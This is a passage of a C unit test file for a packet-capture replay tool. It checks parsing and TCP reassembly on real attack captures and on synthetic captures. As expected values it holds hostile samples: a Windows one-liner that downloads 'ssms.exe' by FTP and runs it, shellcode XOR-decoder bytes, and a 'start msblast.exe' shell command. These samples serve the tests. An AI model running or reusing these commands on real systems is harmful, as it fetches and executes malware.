/*
 * Unit tests of `sundew replay`: the capture parser on the real captures
 * in $CORPORA/pcaps and on small captures built here (reassembly, link
 * types, garbage), and the sender end to end against servers on
 * 127.0.0.1.
 */
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "corpus.h"
#include "replay.h"
#include "replay_int.h"

/* ---- helpers ---- */

static struct replay_capture *
read_corpus(const char *name, const struct replay_pcap_opts *po)
{
	struct replay_capture	*cap;
	char			 path[1024], err[512];

	snprintf(path, sizeof(path), "%s/pcaps/%s", corpus_dir(), name);
	cap = replay_pcap_read_file(path, po, err, sizeof(err));
	if (cap == NULL)
		fail_msg("%s", err);
	return cap;
}

/* All the client bytes of a flow, concatenated; free() it. */
static uint8_t *
flow_bytes(const struct replay_flow *f, size_t *len)
{
	uint8_t	*p;
	size_t	 i, n = 0;

	for (i = 0; i < f->nchunks; i++)
		n += f->chunks[i].len;
	p = malloc(n + 1);
	assert_non_null(p);
	for (i = 0, n = 0; i < f->nchunks; i++) {
		memcpy(p + n, f->chunks[i].data, f->chunks[i].len);
		n += f->chunks[i].len;
	}
	*len = n;
	return p;
}

static int
contains(const uint8_t *p, size_t len, const void *needle, size_t nlen)
{
	return memmem(p, len, needle, nlen) != NULL;
}

static int
addr4_is(int family, const uint8_t *addr, const char *want)
{
	struct in_addr	 a;

	return family == AF_INET && inet_pton(AF_INET, want, &a) == 1 &&
	    memcmp(addr, &a, 4) == 0;
}

/* The index of the flow with this client port and server port, or -1. */
static long
find_flow(const struct replay_capture *cap, int proto, uint16_t cport,
    uint16_t sport)
{
	size_t	 i;

	for (i = 0; i < cap->nflows; i++)
		if (cap->flows[i].proto == proto &&
		    cap->flows[i].client_port == cport &&
		    cap->flows[i].server_port == sport)
			return (long)i;
	return -1;
}

/* Invariants of any model the parser returns. */
static void
check_model(const struct replay_capture *cap)
{
	const struct replay_step	*st;
	const struct replay_flow	*f;
	uint64_t			 n;
	size_t				 i, j;

	for (i = 0; i < cap->nsteps; i++) {
		st = &cap->steps[i];
		assert_true(st->flow < cap->nflows);
		f = &cap->flows[st->flow];
		assert_int_equal(f->skip, REPLAY_PLAY);
		if (st->kind == REPLAY_STEP_SEND ||
		    st->kind == REPLAY_STEP_DGRAM)
			assert_true(st->chunk < f->nchunks);
	}
	for (i = 0; i < cap->nflows; i++) {
		f = &cap->flows[i];
		if (f->skip != REPLAY_PLAY) {
			assert_int_equal(f->nchunks, 0);
			continue;
		}
		for (j = 0, n = 0; j < f->nchunks; j++)
			n += f->chunks[j].len;
		assert_int_equal(n, f->client_bytes);
	}
}

/* ---- a capture writer for synthetic captures ---- */

#define LT_ETHERNET	1
#define LT_NULL		0
#define LT_RAW		101
#define LT_LOOP		108
#define LT_SLL		113
#define LT_SLL2		276

struct cb {
	uint8_t		*p;
	size_t		 len;
	size_t		 cap;
	uint32_t	 linktype;
	int		 vlan;
	int		 v6;
	uint32_t	 ts_ms;
	uint32_t	 cip, sip;	/* IPv4, host order */
	uint16_t	 cport, sport;
};

static void
cb_put(struct cb *b, const void *d, size_t n)
{
	if (b->len + n > b->cap) {
		b->cap = (b->len + n) * 2 + 1024;
		b->p = realloc(b->p, b->cap);
		assert_non_null(b->p);
	}
	memcpy(b->p + b->len, d, n);
	b->len += n;
}

static void
cb_init(struct cb *b, uint32_t linktype)
{
	uint32_t	 h32[5] = { 0xa1b2c3d4, 0, 0, 65535, 0 };
	uint16_t	 ver[2] = { 2, 4 };

	memset(b, 0, sizeof(*b));
	b->linktype = linktype;
	b->cip = 0x0a000001;
	b->sip = 0x0a000002;
	b->cport = 40000;
	b->sport = 80;
	h32[4] = linktype;
	cb_put(b, &h32[0], 4);
	cb_put(b, ver, 4);
	cb_put(b, &h32[1], 16);
}

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

/* Wrap an IP packet in the link header and append the record. */
static void
cb_frame(struct cb *b, const uint8_t *ip, size_t iplen, int v6)
{
	uint8_t		 l2[32];
	uint32_t	 rec[4], fam;
	size_t		 n = 0;
	uint16_t	 type = v6 ? 0x86dd : 0x0800;

	memset(l2, 0, sizeof(l2));
	switch (b->linktype) {
	case LT_ETHERNET:
		memcpy(l2, "\x00\x0c\x29\x00\x00\x02\x00\x0c\x29\x00\x00\x01",
		    12);
		n = 12;
		if (b->vlan) {
			put16(l2 + n, 0x8100);
			put16(l2 + n + 2, 5);
			n += 4;
		}
		put16(l2 + n, type);
		n += 2;
		break;
	case LT_SLL:
		put16(l2 + 2, 1);
		put16(l2 + 4, 6);
		put16(l2 + 14, type);
		n = 16;
		break;
	case LT_SLL2:
		put16(l2, type);
		put16(l2 + 8, 1);
		l2[11] = 6;
		n = 20;
		break;
	case LT_NULL:
		fam = v6 ? 24 : 2;		/* writer's byte order */
		memcpy(l2, &fam, 4);
		n = 4;
		break;
	case LT_LOOP:
		put32(l2, v6 ? 30 : 2);
		n = 4;
		break;
	default:
		break;
	}
	b->ts_ms += 10;
	rec[0] = b->ts_ms / 1000;
	rec[1] = (b->ts_ms % 1000) * 1000;
	rec[2] = rec[3] = (uint32_t)(n + iplen);
	cb_put(b, rec, sizeof(rec));
	cb_put(b, l2, n);
	cb_put(b, ip, iplen);
}

/* An IPv4 (or IPv6 with two extension headers) packet around l4. */
static size_t
ip_packet(const struct cb *b, uint8_t *o, int from_client, int proto,
    const uint8_t *l4, size_t l4len, uint16_t frag)
{
	uint32_t	 src = from_client ? b->cip : b->sip;
	uint32_t	 dst = from_client ? b->sip : b->cip;

	if (b->v6) {
		memset(o, 0, 56);
		o[0] = 0x60;
		put16(o + 4, (uint16_t)(16 + l4len));
		o[6] = 0;		/* hop-by-hop options */
		o[7] = 64;
		o[8] = 0x20;		/* 2001:db8::src */
		o[9] = 0x01;
		o[10] = 0x0d;
		o[11] = 0xb8;
		put32(o + 20, src);
		memcpy(o + 24, o + 8, 12);
		put32(o + 36, dst);
		o[40] = 60;		/* then destination options */
		o[48] = (uint8_t)proto;
		memcpy(o + 56, l4, l4len);
		return 56 + l4len;
	}
	memset(o, 0, 20);
	o[0] = 0x45;
	put16(o + 2, (uint16_t)(20 + l4len));
	put16(o + 6, frag);
	o[8] = 64;
	o[9] = (uint8_t)proto;
	put32(o + 12, src);
	put32(o + 16, dst);
	memcpy(o + 20, l4, l4len);
	return 20 + l4len;
}

#define F_FIN	0x01
#define F_SYN	0x02
#define F_RST	0x04
#define F_PSH	0x08
#define F_ACK	0x10

static void
cb_tcp(struct cb *b, int from_client, uint32_t seq, uint32_t ack,
    uint8_t flags, const char *data)
{
	uint8_t		 l4[2048], ip[2200];
	size_t		 n = data != NULL ? strlen(data) : 0;

	assert_true(n + 20 <= sizeof(l4));
	memset(l4, 0, 20);
	put16(l4, from_client ? b->cport : b->sport);
	put16(l4 + 2, from_client ? b->sport : b->cport);
	put32(l4 + 4, seq);
	put32(l4 + 8, ack);
	l4[12] = 5 << 4;
	l4[13] = flags;
	put16(l4 + 14, 8192);
	if (n > 0)
		memcpy(l4 + 20, data, n);
	cb_frame(b, ip, ip_packet(b, ip, from_client, IPPROTO_TCP, l4,
	    20 + n, 0), b->v6);
}

static void
cb_udp(struct cb *b, int from_client, uint16_t sp, uint16_t dp,
    const char *data)
{
	uint8_t		 l4[2048], ip[2200];
	size_t		 n = strlen(data);

	put16(l4, sp);
	put16(l4 + 2, dp);
	put16(l4 + 4, (uint16_t)(8 + n));
	put16(l4 + 6, 0);
	memcpy(l4 + 8, data, n);
	cb_frame(b, ip, ip_packet(b, ip, from_client, IPPROTO_UDP, l4,
	    8 + n, 0), b->v6);
}

/* The three-way handshake: client ISN 1000, server ISN 5000. */
static void
cb_handshake(struct cb *b)
{
	cb_tcp(b, 1, 1000, 0, F_SYN, NULL);
	cb_tcp(b, 0, 5000, 1001, F_SYN | F_ACK, NULL);
	cb_tcp(b, 1, 1001, 5001, F_ACK, NULL);
}

static struct replay_capture *
cb_parse(struct cb *b, const struct replay_pcap_opts *po)
{
	struct replay_capture	*cap;
	char			 err[512];

	cap = replay_pcap_read_buffer(b->p, b->len, po, err, sizeof(err));
	if (cap == NULL)
		fail_msg("%s", err);
	check_model(cap);
	return cap;
}

/* ---- the real captures ---- */

static void
test_honeynet(void **state)
{
	static const uint8_t	 decoder[] = { 0xeb, 0x10, 0x5a, 0x4a, 0x33,
	    0xc9, 0x66, 0xb9, 0x7d, 0x01, 0x80, 0x34, 0x0a, 0x99, 0xe2, 0xfa };
	static const char	 cmd[] = "echo open 0.0.0.0 8884 > o&echo "
	    "user 1 1 >> o &echo get ssms.exe >> o &echo quit >> o &ftp -n "
	    "-s:o &del /F /Q o &ssms.exe";
	struct replay_capture	*cap;
	const struct replay_flow *f;
	uint8_t			*p;
	size_t			 len, i, tcp = 0;
	long			 i445, i1957;

	cap = read_corpus("attack/honeynet-fc2010-1_attack-trace.pcap", NULL);
	check_model(cap);
	for (i = 0; i < cap->nflows; i++)
		tcp += cap->flows[i].proto == IPPROTO_TCP;
	assert_int_equal(tcp, 5);
	assert_int_equal(cap->nflows, 5);
	assert_true(addr4_is(cap->sensor_family, cap->sensor,
	    "192.150.11.111"));
	assert_false(cap->sensor_given);

	/* the exploit on 445, with the XOR decoder of the shellcode */
	i445 = find_flow(cap, IPPROTO_TCP, 1828, 445);
	assert_true(i445 >= 0);
	f = &cap->flows[i445];
	assert_int_equal(f->skip, REPLAY_PLAY);
	assert_true(addr4_is(f->family, f->client, "98.114.205.102"));
	assert_true(f->syn_seen);
	assert_int_equal(f->client_bytes, 4209);
	assert_int_equal(f->gap_bytes, 0);
	/* negotiate, session setup x2, tree connect, NT create, bind,
	 * the request: each waited for its answer */
	assert_true(f->nchunks >= 6 && f->nchunks <= 9);
	p = flow_bytes(f, &len);
	assert_true(contains(p, len, decoder, sizeof(decoder)));
	assert_true(contains(p, len, "\xffSMB", 4));
	free(p);

	/* the bind shell on 1957 */
	i1957 = find_flow(cap, IPPROTO_TCP, 1924, 1957);
	assert_true(i1957 > i445);
	f = &cap->flows[i1957];
	assert_int_equal(f->skip, REPLAY_PLAY);
	assert_int_equal(f->nchunks, 1);
	p = flow_bytes(f, &len);
	assert_true(contains(p, len, cmd, sizeof(cmd) - 1));
	free(p);

	/* the first 445 connection only probes the port */
	f = &cap->flows[0];
	assert_int_equal(f->client_port, 1821);
	assert_int_equal(f->skip, REPLAY_PLAY);
	assert_int_equal(f->client_bytes, 0);

	/* the victim's FTP download: control and active data connection */
	f = &cap->flows[3];
	assert_int_equal(f->skip, REPLAY_SKIP_SENSOR_CLIENT);
	assert_true(addr4_is(f->family, f->client, "192.150.11.111"));
	assert_int_equal(f->server_port, 8884);
	f = &cap->flows[4];
	assert_int_equal(f->skip, REPLAY_SKIP_FTP_DATA);
	assert_int_equal(f->server_port, 1080);
	assert_true(f->client_bytes > 150000);	/* the PE file */

	/* the steps: the shell opens after the exploit was sent */
	for (i = 0; i < cap->nsteps; i++)
		if (cap->steps[i].kind == REPLAY_STEP_OPEN &&
		    cap->steps[i].flow == (uint32_t)i1957)
			break;
	assert_true(i < cap->nsteps);
	assert_true(i > 0 && cap->steps[i - 1].kind == REPLAY_STEP_SEND &&
	    cap->steps[i - 1].flow == (uint32_t)i445);
	replay_pcap_free(cap);
}

static void
test_honeynet_server_option(void **state)
{
	struct replay_pcap_opts	 po;
	struct replay_capture	*cap;
	size_t			 i, played = 0;

	/* naming the attacker as the sensor turns the roles around */
	memset(&po, 0, sizeof(po));
	po.server_family = AF_INET;
	assert_int_equal(inet_pton(AF_INET, "98.114.205.102", po.server), 1);
	cap = read_corpus("attack/honeynet-fc2010-1_attack-trace.pcap", &po);
	check_model(cap);
	assert_true(cap->sensor_given);
	for (i = 0; i < cap->nflows; i++)
		played += cap->flows[i].skip == REPLAY_PLAY;
	assert_int_equal(played, 1);
	assert_int_equal(cap->flows[3].skip, REPLAY_PLAY);
	assert_int_equal(cap->flows[3].server_port, 8884);
	assert_int_equal(cap->flows[0].skip, REPLAY_SKIP_SENSOR_CLIENT);
	replay_pcap_free(cap);
}

static void
test_blaster(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	uint8_t			*p;
	size_t			 len, i;

	cap = read_corpus("attack/ppa_blaster-remote-shell-4444.pcap", NULL);
	check_model(cap);
	assert_true(addr4_is(cap->sensor_family, cap->sensor,
	    "10.234.2.116"));
	/* the capture holds the session twice, without handshake */
	assert_int_equal(cap->nflows, 2);
	for (i = 0; i < cap->nflows; i++) {
		f = &cap->flows[i];
		assert_int_equal(f->skip, REPLAY_PLAY);
		assert_int_equal(f->server_port, 4444);
		assert_int_equal(f->client_port, 1793);
		assert_false(f->syn_seen);
		assert_int_equal(f->nchunks, 2);
		p = flow_bytes(f, &len);
		assert_int_equal(len, 30);
		assert_memory_equal(p, "start msblast.exe\nmsblast.exe\n", 30);
		free(p);
	}
	/* the shell's prompt comes first: wait for it before typing */
	assert_int_equal(cap->steps[0].kind, REPLAY_STEP_OPEN);
	assert_int_equal(cap->steps[1].kind, REPLAY_STEP_WAIT);
	assert_int_equal(cap->steps[2].kind, REPLAY_STEP_SEND);
	replay_pcap_free(cap);
}

static void
test_pcapng(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	uint8_t			*p;
	size_t			 len;

	cap = read_corpus("protocol/zeek_dcerpc-tcp135-ISystemActivator-"
	    "RemoteCreateInstance.pcapng", NULL);
	check_model(cap);
	assert_int_equal(cap->linktype, 1);
	assert_int_equal(cap->nflows, 1);
	f = &cap->flows[0];
	assert_int_equal(f->server_port, 135);
	assert_int_equal(f->skip, REPLAY_PLAY);
	assert_true(f->nchunks >= 2);
	p = flow_bytes(f, &len);
	assert_int_equal(len, f->client_bytes);
	/* a DCERPC bind (version 5.0, type 11) opens the stream */
	assert_true(len > 16);
	assert_int_equal(p[0], 5);
	assert_int_equal(p[2], 11);
	free(p);
	replay_pcap_free(cap);
}

static void
test_netbios_split(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;

	cap = read_corpus("protocol/zeek_netbios-ssn-139-split-session-"
	    "message.pcap", NULL);
	check_model(cap);
	assert_int_equal(cap->nflows, 1);
	f = &cap->flows[0];
	assert_int_equal(f->server_port, 139);
	/* two segments with no answer between them: one chunk */
	assert_int_equal(f->nchunks, 1);
	assert_int_equal(f->chunks[0].len, 44);
	assert_memory_equal(f->chunks[0].data, "\x00\x00\x00\x20\xffSMB", 8);
	assert_memory_equal(f->chunks[0].data + 36,
	    "\x00\x00\x00\x04\xffSMB", 8);
	assert_int_equal(cap->steps[cap->nsteps - 1].kind,
	    REPLAY_STEP_CLOSE);
	replay_pcap_free(cap);
}

static void
test_tftp(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	size_t			 i, waits = 0;

	cap = read_corpus("protocol/sv_tftp-rrq-octet.pcap", NULL);
	check_model(cap);
	assert_true(addr4_is(cap->sensor_family, cap->sensor,
	    "192.168.0.10"));
	assert_int_equal(cap->nflows, 1);
	f = &cap->flows[0];
	assert_int_equal(f->proto, IPPROTO_UDP);
	assert_int_equal(f->client_port, 50618);
	assert_int_equal(f->server_port, 69);
	assert_true(f->nchunks > 10);
	assert_int_equal(f->chunks[0].port, 69);
	assert_true(f->chunks[0].len > 13);
	assert_memory_equal(f->chunks[0].data, "\x00\x01rfc1350.txt\0", 14);
	/* the ACKs go to the port the server answered from */
	assert_int_equal(f->chunks[1].port, 3445);
	assert_memory_equal(f->chunks[1].data, "\x00\x04\x00\x01", 4);
	for (i = 0; i < cap->nsteps; i++) {
		if (cap->steps[i].kind != REPLAY_STEP_WAIT)
			continue;
		waits++;
		assert_int_equal(cap->steps[i].port, 3445);
	}
	assert_int_equal(waits, f->nchunks - 1);	/* the last ACK */
	assert_int_equal(cap->steps[0].kind, REPLAY_STEP_DGRAM);
	replay_pcap_free(cap);
}

static void
test_active_ftp(void **state)
{
	struct replay_capture	*cap;
	size_t			 i;

	/* the server opens the data connections: they are not replayed */
	cap = read_corpus("protocol/sv_ftp-download-active-mode.pcap", NULL);
	check_model(cap);
	assert_int_equal(cap->flows[0].server_port, 21);
	assert_int_equal(cap->flows[0].skip, REPLAY_PLAY);
	for (i = 1; i < cap->nflows; i++) {
		assert_int_equal(cap->flows[i].skip,
		    REPLAY_SKIP_SENSOR_CLIENT);
		assert_int_equal(cap->flows[i].client_port, 20);
	}
	replay_pcap_free(cap);
}

static void
test_every_corpus_capture(void **state)
{
	static const char	*names[] = {
	    "attack/es_doublepulsar-backdoor-check-win7.pcap",
	    "attack/es_eternalblue-failed-patched-win7.pcap",
	    "attack/es_wannacry-ms17-010-doublepulsar.pcap",
	    "attack/zeek_smb2-SMBGhost-negotiate-compression.pcap",
	    "protocol/sv_ftp-download-passive-mode.pcap",
	    "protocol/sv_smb1-osx-negotiate-ntlmssp.pcap",
	    "protocol/sv_tftp-wrq-octet.pcap",
	    "protocol/zeek_dcerpc-bind-altercontext-drsuapi.pcap",
	    "protocol/zeek_ftp-anonymous-retr.pcap",
	    "protocol/zeek_http-get.pcap",
	    "protocol/zeek_smb1-lsarpc-dssetup-bind-"
	    "DsRoleGetPrimaryDomainInformation.cap",
	    "protocol/zeek_smb1-negotiate-lanman.pcap",
	    "protocol/zeek_smb1-session-treeconnect-ipc-trans.pcap",
	    "protocol/zeek_smb1-to-smb2-multiprotocol-negotiate.pcap",
	    "protocol/zeek_smb2-311-negotiate-sessionsetup.pcap",
	};
	struct replay_capture	*cap;
	size_t			 i, j, played;
	uint8_t			*p;
	size_t			 len;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		cap = read_corpus(names[i], NULL);
		check_model(cap);
		for (j = 0, played = 0; j < cap->nflows; j++)
			played += cap->flows[j].skip == REPLAY_PLAY;
		if (played == 0)
			fail_msg("%s: nothing to play", names[i]);
		replay_pcap_free(cap);
	}
	/* HTTP: the request line reaches the server whole */
	cap = read_corpus("protocol/zeek_http-get.pcap", NULL);
	p = flow_bytes(&cap->flows[0], &len);
	assert_true(len > 40);
	assert_memory_equal(p, "GET /download/CHANGES.bro-aux.txt HTTP/1.1",
	    42);
	free(p);
	replay_pcap_free(cap);
}

/* ---- garbage and limits ---- */

static uint8_t *
slurp(const char *name, size_t *len)
{
	char	 path[1024];
	FILE	*fp;
	uint8_t	*p;
	long	 n;

	snprintf(path, sizeof(path), "%s/pcaps/%s", corpus_dir(), name);
	fp = fopen(path, "rb");
	assert_non_null(fp);
	assert_int_equal(fseek(fp, 0, SEEK_END), 0);
	n = ftell(fp);
	assert_true(n > 0);
	rewind(fp);
	p = malloc((size_t)n);
	assert_non_null(p);
	assert_int_equal(fread(p, 1, (size_t)n, fp), (size_t)n);
	fclose(fp);
	*len = (size_t)n;
	return p;
}

static void
test_garbage(void **state)
{
	struct replay_capture	*cap;
	char			 err[512];
	uint8_t			 junk[4096], *p;
	size_t			 i, len;

	/* nothing, random bytes, a header alone */
	srand(7);
	for (i = 0; i < sizeof(junk); i++)
		junk[i] = (uint8_t)rand();
	err[0] = '\0';
	assert_null(replay_pcap_read_buffer(junk, 0, NULL, err, sizeof(err)));
	assert_true(err[0] != '\0');
	err[0] = '\0';
	assert_null(replay_pcap_read_buffer(junk, sizeof(junk), NULL, err,
	    sizeof(err)));
	assert_non_null(strstr(err, "not a pcap"));

	p = slurp("attack/honeynet-fc2010-1_attack-trace.pcap", &len);
	err[0] = '\0';
	assert_null(replay_pcap_read_buffer(p, 24, NULL, err, sizeof(err)));
	assert_non_null(strstr(err, "no TCP stream"));

	/* cut in the middle of a packet */
	err[0] = '\0';
	assert_null(replay_pcap_read_buffer(p, 5000, NULL, err, sizeof(err)));
	assert_non_null(strstr(err, "truncated"));

	/* a record that claims more than the snap length */
	memcpy(junk, p, 24);
	memset(junk + 24, 0xff, 16);
	err[0] = '\0';
	assert_null(replay_pcap_read_buffer(junk, 40 + 64, NULL, err,
	    sizeof(err)));
	assert_true(err[0] != '\0');
	free(p);

	/* the file name is in the message */
	err[0] = '\0';
	assert_null(replay_pcap_read_file("/nonexistent/x.pcap", NULL, err,
	    sizeof(err)));
	assert_non_null(strstr(err, "/nonexistent/x.pcap"));

	/* a link type we do not read */
	{
		struct cb	 b;

		cb_init(&b, 105);		/* 802.11 */
		err[0] = '\0';
		cap = replay_pcap_read_buffer(b.p, b.len, NULL, err,
		    sizeof(err));
		assert_null(cap);
		assert_non_null(strstr(err, "link type"));
		free(b.p);
	}
}

static void
test_mutations(void **state)
{
	static const char	*names[] = {
	    "attack/ppa_blaster-remote-shell-4444.pcap",
	    "protocol/zeek_netbios-ssn-139-split-session-message.pcap",
	    "protocol/zeek_smb1-session-treeconnect-ipc-trans.pcap",
	};
	struct replay_capture	*cap;
	char			 err[512];
	uint8_t			*orig, *p;
	size_t			 len, i, k, n, parsed = 0;

	srand(11);
	for (n = 0; n < sizeof(names) / sizeof(names[0]); n++) {
		orig = slurp(names[n], &len);
		p = malloc(len);
		assert_non_null(p);
		for (i = 0; i < 300; i++) {
			memcpy(p, orig, len);
			/* flip a few bytes after the file header */
			for (k = 0; k < 1 + (size_t)rand() % 8; k++)
				p[24 + (size_t)rand() % (len - 24)] =
				    (uint8_t)rand();
			cap = replay_pcap_read_buffer(p, len, NULL, err,
			    sizeof(err));
			if (cap != NULL) {
				check_model(cap);
				parsed++;
			}
			replay_pcap_free(cap);
		}
		free(p);
		free(orig);
	}
	/* most mutants hit payload bytes and still parse */
	assert_true(parsed > 300);
}

static void
test_limits(void **state)
{
	struct replay_pcap_opts	 po;
	struct replay_capture	*cap;
	char			 path[1024], err[512];

	snprintf(path, sizeof(path), "%s/pcaps/%s", corpus_dir(),
	    "attack/honeynet-fc2010-1_attack-trace.pcap");
	memset(&po, 0, sizeof(po));
	po.max_bytes = 64 << 10;	/* the PE download does not fit */
	err[0] = '\0';
	cap = replay_pcap_read_file(path, &po, err, sizeof(err));
	assert_null(cap);
	assert_non_null(strstr(err, "memory"));
	assert_non_null(strstr(err, "honeynet"));

	memset(&po, 0, sizeof(po));
	po.max_flows = 3;
	err[0] = '\0';
	cap = replay_pcap_read_file(path, &po, err, sizeof(err));
	assert_null(cap);
	assert_non_null(strstr(err, "TCP streams"));
}

/* ---- synthetic captures: reassembly and link layers ---- */

static void
test_reassembly(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	struct cb		 b;

	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK | F_PSH, "AAAA");
	cb_tcp(&b, 1, 1009, 5001, F_ACK | F_PSH, "CCCC");	/* early */
	cb_tcp(&b, 1, 1005, 5001, F_ACK | F_PSH, "BBBB");	/* fills */
	cb_tcp(&b, 1, 1005, 5001, F_ACK | F_PSH, "XXXX");	/* resent */
	cb_tcp(&b, 1, 1011, 5001, F_ACK | F_PSH, "ccDD");	/* overlap */
	cb_tcp(&b, 0, 5001, 1015, F_ACK | F_PSH, "OK");
	cb_tcp(&b, 1, 1015, 5003, F_ACK | F_PSH, "EE");
	cb_tcp(&b, 1, 1017, 5003, F_ACK | F_FIN, NULL);
	cb_tcp(&b, 0, 5003, 1018, F_ACK | F_FIN, NULL);
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 1);
	f = &cap->flows[0];
	assert_int_equal(f->client_port, 40000);
	assert_int_equal(f->server_port, 80);
	assert_int_equal(f->server_bytes, 2);
	assert_int_equal(f->nchunks, 2);
	assert_int_equal(f->chunks[0].len, 14);
	assert_memory_equal(f->chunks[0].data, "AAAABBBBCCCCDD", 14);
	assert_int_equal(f->chunks[1].len, 2);
	assert_memory_equal(f->chunks[1].data, "EE", 2);
	assert_int_equal(cap->nsteps, 5);
	assert_int_equal(cap->steps[0].kind, REPLAY_STEP_OPEN);
	assert_int_equal(cap->steps[1].kind, REPLAY_STEP_SEND);
	assert_int_equal(cap->steps[2].kind, REPLAY_STEP_WAIT);
	assert_int_equal(cap->steps[3].kind, REPLAY_STEP_SEND);
	assert_int_equal(cap->steps[4].kind, REPLAY_STEP_CLOSE);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_out_of_order_first_copy(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;

	/* two early copies of the same bytes: the first one is kept */
	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	cb_tcp(&b, 1, 1005, 5001, F_ACK, "1111");
	cb_tcp(&b, 1, 1003, 5001, F_ACK, "2222");	/* 1003..1006 */
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "33");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->flows[0].client_bytes, 8);
	assert_memory_equal(cap->flows[0].chunks[0].data, "33221111", 8);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_seq_wrap(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;

	cb_init(&b, LT_ETHERNET);
	cb_tcp(&b, 1, 0xfffffff8, 0, F_SYN, NULL);
	cb_tcp(&b, 0, 77, 0xfffffff9, F_SYN | F_ACK, NULL);
	cb_tcp(&b, 1, 0xfffffff9, 78, F_ACK, "0123456789");	/* wraps */
	cb_tcp(&b, 1, 0x00000003, 78, F_ACK, "abcdef");
	cb_tcp(&b, 1, 0xfffffffb, 78, F_ACK, "zz");		/* old */
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->flows[0].client_bytes, 16);
	assert_memory_equal(cap->flows[0].chunks[0].data,
	    "0123456789abcdef", 16);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_missing_syn(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	struct cb		 b;

	/* joined mid-stream; the server speaks first; no SYN tells who
	 * the client is, the service port does */
	cb_init(&b, LT_ETHERNET);
	b.cport = 1793;
	b.sport = 4444;
	cb_tcp(&b, 0, 900000, 123456, F_ACK | F_PSH, "C:\\>");
	cb_tcp(&b, 1, 123456, 900004, F_ACK | F_PSH, "dir\n");
	cap = cb_parse(&b, NULL);
	f = &cap->flows[0];
	assert_int_equal(f->server_port, 4444);
	assert_int_equal(f->client_port, 1793);
	assert_false(f->syn_seen);
	assert_int_equal(f->client_bytes, 4);
	assert_int_equal(f->server_bytes, 4);
	assert_true(addr4_is(cap->sensor_family, cap->sensor, "10.0.0.2"));
	replay_pcap_free(cap);
	free(b.p);

	/* two unknown high ports: the one that stays is the server's */
	cb_init(&b, LT_ETHERNET);
	b.cport = 50001;
	b.sport = 7000;
	cb_tcp(&b, 1, 1, 1, F_ACK, "one");
	b.cport = 50002;
	cb_tcp(&b, 1, 1, 1, F_ACK, "two");
	b.cport = 6000;		/* lower than the server's port */
	cb_tcp(&b, 1, 1, 1, F_ACK, "three");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 3);
	assert_int_equal(cap->flows[2].server_port, 7000);
	assert_int_equal(cap->flows[2].client_port, 6000);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_lost_segment(void **state)
{
	struct replay_capture	*cap;
	const struct replay_flow *f;
	struct cb		 b;

	/* the capture lost "BBBB"; the server's ACK shows it was sent */
	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "AAAA");
	cb_tcp(&b, 1, 1009, 5001, F_ACK, "CCCC");
	cb_tcp(&b, 0, 5001, 1013, F_ACK, NULL);
	cb_tcp(&b, 0, 5001, 1013, F_ACK, "ok");
	cap = cb_parse(&b, NULL);
	f = &cap->flows[0];
	assert_int_equal(f->gap_bytes, 4);
	assert_int_equal(f->nchunks, 1);
	assert_int_equal(f->chunks[0].len, 12);
	assert_memory_equal(f->chunks[0].data, "AAAA\0\0\0\0CCCC", 12);
	/* the answer comes after the whole chunk */
	assert_int_equal(cap->steps[2].kind, REPLAY_STEP_WAIT);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_hole_expires(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;
	size_t			 i;

	/* a lost segment nobody acknowledges: after 5 s of capture time
	 * the bytes after it are played where they were, not at the end */
	cb_init(&b, LT_ETHERNET);
	for (i = 0; i < 1200; i++) {
		b.cport = (uint16_t)(20000 + i);
		cb_handshake(&b);
		cb_tcp(&b, 1, 1005, 5001, F_ACK, "AAAA");
	}
	b.ts_ms += 6000;
	b.cport = 40000;
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "later");
	cb_tcp(&b, 1, 1010, 5001, F_ACK, "ZZ");		/* a new hole */
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 1201);
	assert_int_equal(cap->flows[1200].client_bytes, 11);
	assert_memory_equal(cap->flows[1200].chunks[0].data,
	    "later\0\0\0\0ZZ", 11);
	for (i = 0; i < 1200; i++) {
		assert_int_equal(cap->flows[i].gap_bytes, 4);
		assert_int_equal(cap->flows[i].chunks[0].len, 8);
		assert_memory_equal(cap->flows[i].chunks[0].data,
		    "\0\0\0\0AAAA", 8);
	}
	assert_int_equal(cap->steps[cap->nsteps - 2].kind, REPLAY_STEP_OPEN);
	assert_int_equal(cap->steps[cap->nsteps - 2].flow, 1200);
	assert_int_equal(cap->steps[cap->nsteps - 3].kind, REPLAY_STEP_SEND);
	replay_pcap_free(cap);
